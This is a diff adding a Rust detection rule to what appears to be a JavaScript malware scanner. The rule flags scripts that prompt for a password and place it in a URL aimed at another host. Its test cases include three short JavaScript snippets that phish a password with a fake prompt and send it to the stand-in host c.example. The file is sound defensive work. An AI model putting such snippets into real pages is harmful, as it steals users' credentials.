@@ -1,0 +1,52 @@
+//! `asked-password-in-address`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::Kind;
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "asked-password-in-address",
+    description: "The script asks for a password in a box of the browser and puts it into an address of another host.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::SecretField, Atom::SecretWord])],
+    within: 0,
+    only_if: Some(carries),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var p=prompt('Your session ended. Password:');if(p){new Image().src='http://c.example/?p='+encodeURIComponent(p)}",
+            "const u=prompt('User'),p=prompt('Password');new Image().src=`http://c.example/l?u=${u}&p=${p}`",
+            "let w=window.prompt('Enter your password again');fetch('//c.example/k?'+w)",
+        ],
+        without: &[
+            "var p=prompt('Room password');fetch('/rooms?p='+encodeURIComponent(p)).then(enter)",
+            "var p=prompt('Password');fetch('https://api.example/unlock',{method:'POST',body:JSON.stringify({p})}).then(enter)",
+            "var p=prompt('Name');new Image().src='http://c.example/?p='+p;label.textContent='Password'",
+        ],
+    },
+};
+
+fn carries(evidence: &Evidence<'_>, held: Held) -> bool {
+    let at = held.last as usize;
+    let near = Near::new(evidence, held, 70);
+    if near.word(at.wrapping_sub(2)) != "prompt" || !near.is(at.wrapping_sub(1), b'(') {
+        return false;
+    }
+    let set = (at.saturating_sub(6)..at).rev().find(|at| near.is(*at, b'='));
+    let Some(name) = set.map(|set| set.wrapping_sub(1)).filter(|at| near.kind(*at) == Some(Kind::Name))
+    else {
+        return false;
+    };
+    let after = near.among(at..at + 70);
+    after.places().any(|to| {
+        let abroad = near.text_at(to).is_some_and(|text| {
+            text.contains('?') && ["https://", "http://", "//"].iter().any(|start| text.starts_with(start))
+        });
+        abroad
+            && (to + 1..to + 10)
+                .any(|at| near.kind(at) == Some(Kind::Name) && near.word(at) == near.word(name))
+    })
+}
